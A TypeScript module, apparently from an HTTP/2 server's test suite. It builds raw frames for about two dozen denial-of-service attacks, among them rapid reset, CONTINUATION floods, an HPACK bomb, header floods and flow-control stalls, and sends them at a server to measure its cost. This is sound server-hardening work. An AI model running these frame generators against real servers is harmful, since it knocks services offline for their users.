// What an HTTP/2 client can do to a server that costs the server more than the client. Each attack goes on until the
// connection is closed, or it has sent what it may.
import { integer, literal } from "./hpack-literals.ts";
import {
  FLAG,
  FRAME,
  frame,
  headerBlock,
  headers,
  requestFields,
  reset,
  settings,
  windowUpdate,
} from "./http2-frames.ts";
import type { Http2RawClient, Http2RawOptions } from "./http2-raw-client.ts";

export interface Attack {
  readonly name: string;
  /** Whether the connection is to be ended for it; else the server may also bear it, in bounded memory. */
  readonly isFatal: boolean;
  /** Whether what the server holds are the app's answers, which the attacker did not send. */
  readonly holdsAnswers: boolean;
  readonly options: Http2RawOptions;
  /** The bytes of each step. `step` counts from 0. */
  readonly bytes: (step: number) => Uint8Array;
  /** How many steps at most. */
  readonly steps: number;
}

/** The app's path whose answer is 1 MiB. */
export const LARGE_ANSWER_PATH = "/large";

const streamOf = (step: number): number => 2 * step + 1;
const openRequest = (step: number): Buffer => headers(streamOf(step), requestFields("/"), FLAG.END_HEADERS);
const bigFields = (step: number): readonly (readonly [string, string])[] =>
  Array.from({ length: 14 }, (_, at) => [`x-big-${at}`, String(step).padEnd(4_000, "b")] as const);
const pseudo = headerBlock(requestFields("/"));
const initialWindow = (bytes: number): readonly [number, number] => [4, bytes];

function attack(name: string, bytes: Attack["bytes"], more: Partial<Attack> = {}): Attack {
  return { name, isFatal: true, holdsAnswers: false, options: {}, steps: 20_000, bytes, ...more };
}

export const ATTACKS: readonly Attack[] = [
  attack("rapid reset", (step) =>
    Buffer.concat([headers(streamOf(step), requestFields("/")), reset(streamOf(step), 8)]),
  ),
  attack("made you reset by a window update of nothing", (step) =>
    Buffer.concat([openRequest(step), windowUpdate(streamOf(step), 0)]),
  ),
  attack("made you reset by a window too large", (step) =>
    Buffer.concat([openRequest(step), windowUpdate(streamOf(step), 0x7fff_ffff)]),
  ),
  attack("made you reset by DATA after the end", (step) =>
    Buffer.concat([headers(streamOf(step), requestFields("/")), frame(FRAME.DATA, 0, streamOf(step), Buffer.alloc(1))]),
  ),
  attack("made you reset by a field that is forbidden", (step) =>
    headers(streamOf(step), requestFields("/", [["connection", "close"]])),
  ),
  attack("streams above the limit", openRequest),
  attack("CONTINUATION without end", (step) =>
    step === 0
      ? frame(FRAME.HEADERS, 0, 1, pseudo)
      : frame(FRAME.CONTINUATION, 0, 1, headerBlock([[`x-${step}`, "c".repeat(8_000)]])),
  ),
  attack("empty CONTINUATION", (step) =>
    step === 0 ? frame(FRAME.HEADERS, 0, 1, pseudo) : frame(FRAME.CONTINUATION, 0, 1),
  ),
  attack("SETTINGS", () => settings(initialWindow(65_535))),
  attack("SETTINGS of many values", () => settings(...Array.from({ length: 2_000 }, () => initialWindow(1)))),
  attack("PING", () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  attack("PING by a client that does not read", () => frame(FRAME.PING, 0, 0, Buffer.alloc(8)), {
    options: { paused: true },
  }),
  attack("empty DATA", (step) => (step === 0 ? openRequest(0) : frame(FRAME.DATA, 0, 1))),
  attack("DATA of padding alone", (step) =>
    step === 0
      ? openRequest(0)
      : frame(FRAME.DATA, FLAG.PADDED, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)])),
  ),
  attack("PRIORITY", (step) => frame(FRAME.PRIORITY, 0, streamOf(step % 1_000), Buffer.from([0, 0, 0, 0, 16]))),
  attack("WINDOW_UPDATE of one byte", () => windowUpdate(0, 1)),
  attack("window updates of a stream, of one byte", (step) => (step === 0 ? openRequest(0) : windowUpdate(1, 1))),
  attack(
    "HPACK bomb: a large field, referred to over and over",
    (step) =>
      step === 0
        ? headersOf(1, Buffer.concat([pseudo, literal(0x40, "x-bomb", "b".repeat(3_900))]))
        : headersOf(
            streamOf(step),
            Buffer.concat([pseudo, Buffer.concat(Array.from({ length: 12_000 }, () => integer(0x80, 7, 62)))]),
          ),
    { steps: 1_000, options: { settings: [initialWindow(0)] } },
  ),
  attack(
    "header flood: 56 KB of fields on each of many streams that do not end",
    (step) => Buffer.concat(splitHeaders(streamOf(step), Buffer.concat([pseudo, headerBlock(bigFields(step))]))),
    { steps: 1_000, isFatal: false },
  ),
  attack(
    "many small fields, above their number",
    (step) =>
      headers(
        streamOf(step),
        requestFields(
          "/",
          Array.from({ length: 3_000 }, () => ["a", ""] as const),
        ),
      ),
    { steps: 1_000 },
  ),
  attack(
    "cookie crumbs",
    (step) =>
      headers(
        streamOf(step),
        requestFields(
          "/",
          Array.from({ length: 3_000 }, () => ["cookie", "a"] as const),
        ),
      ),
    { steps: 1_000 },
  ),
  attack("answers that find no window", (step) => headers(streamOf(step), requestFields(LARGE_ANSWER_PATH)), {
    steps: 100,
    isFatal: false,
    holdsAnswers: true,
    options: { settings: [initialWindow(0)] },
  }),
  attack("answers that nobody reads", (step) => headers(streamOf(step), requestFields(LARGE_ANSWER_PATH)), {
    steps: 100,
    isFatal: false,
    holdsAnswers: true,
    options: { settings: [initialWindow(0x7fff_ffff)], paused: true },
  }),
];

/** What an attack costs without itself: handshakes, as often as one of a connection each needs them. */
export const CONNECTIONS_ALONE: Attack = attack(
  "connections alone",
  (step) => headers(streamOf(step), requestFields("/")),
  { steps: 1, holdsAnswers: true },
);

function headersOf(stream: number, block: Buffer): Buffer {
  return frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, stream, block);
}

/** A head that is longer than one frame may be. */
function splitHeaders(stream: number, block: Buffer): Buffer[] {
  const parts: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_000) {
    const isLast = at + 16_000 >= block.length;
    const type = at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION;
    parts.push(frame(type, isLast ? FLAG.END_HEADERS : 0, stream, block.subarray(at, at + 16_000)));
  }
  return parts;
}

/** Sends the steps, as fast as they are taken; at most `maxBytes`. */
export async function mount(attacked: Http2RawClient, { bytes, steps }: Attack, maxBytes: number): Promise<void> {
  for (let step = 0; step < steps && !attacked.closed && attacked.bytesSent < maxBytes; step++) {
    const isTaken = attacked.send(bytes(step));
    if (isTaken && step % 64 !== 63) continue;
    await new Promise((resolve) => setImmediate(resolve));
    if (!isTaken && attacked.socket.writableNeedDrain) await drainOrClose(attacked);
  }
}

/** A server that reads no more is given a second; then there is nothing more to send. */
function drainOrClose({ socket }: Http2RawClient): Promise<void> {
  return new Promise((resolve) => {
    const settle = (): void => {
      clearTimeout(timer);
      socket.removeListener("drain", settle);
      socket.removeListener("close", settle);
      resolve();
    };
    const timer = setTimeout(settle, 1_000);
    socket.once("drain", settle).once("close", settle);
  });
}
